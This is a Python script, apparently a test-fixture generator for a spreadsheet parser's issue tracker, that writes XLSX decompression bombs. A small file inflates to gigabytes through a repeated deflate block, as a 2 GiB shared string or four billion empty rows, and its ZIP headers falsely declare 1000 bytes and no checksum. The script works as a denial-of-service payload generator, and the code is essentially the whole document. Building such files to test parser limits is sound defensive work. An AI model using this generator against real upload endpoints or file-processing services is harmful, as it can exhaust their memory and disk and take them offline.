#!/usr/bin/env python3
"""Writes the XLSX bombs of issue 10, probe 2 (the same construction as the tests' XlsxBombs):

  cell  FILE [CHARS]  one shared string of CHARS letters (default 2 GiB) in about 2 MB
  rows  FILE [ROWS]   ROWS empty <row/> elements (default 4 Gi) before the data row

A workbook of sheet "Data" holding an activity table (region, industry, year, employment); the bomb
part is one deflate stream whose middle block, compressed once with the same text behind it, is
repeated (SYNC_FLUSH blocks end on a byte boundary and refer back only to identical text), so a part
of gigabytes costs megabytes to write. Its ZIP headers declare 1000 bytes inflated and no checksum,
as a hostile file would.
"""
import struct
import sys
import zlib

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET_START = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + MAIN + '"><sheetData>'
               '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
               '<c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>')
ROW_2 = ('<row r="2"><c r="A2" t="s"><v>4</v></c><c r="B2" t="s"><v>5</v></c>'
         '<c r="C2"><v>2023</v></c><c r="D2"><v>120</v></c></row>')
SHEET_END = "</sheetData></worksheet>"
STRINGS_START = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + MAIN + '" count="6" uniqueCount="6">'
                 "<si><t>region</t></si><si><t>industry</t></si><si><t>year</t></si><si><t>employment</t></si>")
STRINGS_END = "<si><t>RU-SAM</t></si><si><t>29.10</t></si></sst>"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"


def base():
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    return {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="' + ct + 'sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="' + ct + 'worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="' + ct + 'sharedStrings+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="' + PKG + '">'
        '<Relationship Id="rId1" Type="' + REL + '/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="' + MAIN + '" xmlns:r="' + REL + '">'
        '<sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="' + PKG + '">'
        '<Relationship Id="rId1" Type="' + REL + '/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="' + REL + '/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        SHEET: SHEET_START + ROW_2 + SHEET_END,
        STRINGS: STRINGS_START + STRINGS_END,
    }


def deflated(data):
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(), zlib.crc32(data), len(data)


def repeated(prefix, unit, count, suffix):
    """One raw deflate stream: prefix, unit × count (rounded up to whole 64 KiB blocks), suffix."""
    unit = unit.encode()
    block = unit * max(1, (64 * 1024 + len(unit) - 1) // len(unit))
    per_block = len(block) // len(unit)
    blocks = max(2, (count + per_block - 1) // per_block)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix.encode()) + c.flush(zlib.Z_SYNC_FLUSH)
    head += c.compress(block) + c.flush(zlib.Z_SYNC_FLUSH)
    steady = c.compress(block) + c.flush(zlib.Z_SYNC_FLUSH)
    tail = c.compress(suffix.encode()) + c.flush()
    return head, steady, blocks - 1, tail


def write(path, bomb_part, bomb):
    entries = []  # (name, method, crc, compressed size, size, writer)
    for name, text in base().items():
        if name == bomb_part:
            head, steady, times, tail = bomb
            csize = len(head) + len(steady) * times + len(tail)

            def w(out, head=head, steady=steady, times=times, tail=tail):
                out.write(head)
                chunk = steady * max(1, (1 << 20) // len(steady))
                per = len(chunk) // len(steady)
                left = times
                while left >= per:
                    out.write(chunk)
                    left -= per
                out.write(steady * left)
                out.write(tail)
            entries.append((name, 8, 0, csize, 1000, w))
        else:
            data, crc, size = deflated(text.encode())
            entries.append((name, 8, crc, len(data), size, lambda out, d=data: out.write(d)))
    with open(path, "wb") as out:
        offsets = []
        for name, method, crc, csize, size, w in entries:
            offsets.append(out.tell())
            n = name.encode()
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, csize, size, len(n), 0) + n)
            w(out)
        cd = out.tell()
        for (name, method, crc, csize, size, _), off in zip(entries, offsets):
            n = name.encode()
            out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, csize, size,
                                  len(n), 0, 0, 0, 0, 0, off) + n)
        end = out.tell()
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), end - cd, cd, 0))


def main():
    kind, path = sys.argv[1], sys.argv[2]
    if kind == "cell":
        chars = int(sys.argv[3]) if len(sys.argv) > 3 else 2 << 30
        write(path, STRINGS, repeated(STRINGS_START + "<si><t>", "A" * 64, max(1, chars // 64),
                                      "</t></si><si><t>29.10</t></si></sst>"))
    elif kind == "rows":
        rows = int(sys.argv[3]) if len(sys.argv) > 3 else 4 << 30
        write(path, SHEET, repeated(SHEET_START, "<row/>", rows, ROW_2 + SHEET_END))
    else:
        sys.exit("usage: bomb_xlsx.py cell|rows FILE [COUNT]")


if __name__ == "__main__":
    main()
